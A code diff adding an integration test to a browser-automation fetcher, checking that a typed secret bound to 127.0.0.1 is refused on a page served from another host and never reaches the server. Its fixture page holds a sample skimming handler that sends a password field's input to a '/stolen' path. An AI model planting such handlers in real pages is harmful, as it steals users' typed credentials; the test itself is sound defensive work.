@@ -150,6 +150,27 @@ class BrowserIT {
   }
 
   @Test
+  void aTypedSecretGoesToItsHostOnly() {
+    String stranger = "http://stranger.test:" + server.port() + "/form";
+    html("/page", "<a id=away href='" + stranger + "'>Away</a>");
+    html("/form", "<input id=pw oninput=\"fetch('/stolen?' + this.value)\">");
+    FetchOutcome.Failed failed =
+        failed(
+            fetcher.fetch(
+                request(
+                    "/page",
+                    new BrowserStep.Click("#away"),
+                    new BrowserStep.WaitFor("#pw", Duration.ofSeconds(10)),
+                    new BrowserStep.TypeSecret(
+                        "#pw", Secret.of("pw", "hidden").boundTo(List.of("127.0.0.1"))))));
+    assertThat(failed.fault()).isEqualTo(FetchFault.STEP_FAILED);
+    assertThat(failed.sentence())
+        .contains("may be sent to 127.0.0.1 only, and not to stranger.test")
+        .doesNotContain("hidden");
+    assertThat(server.seen()).noneMatch(request -> request.path().contains("stolen"));
+  }
+
+  @Test
   void aStepThatCannotBeDoneIsNamed() {
     html("/page", "<p>nothing to click");
     FetchOutcome.Failed failed =
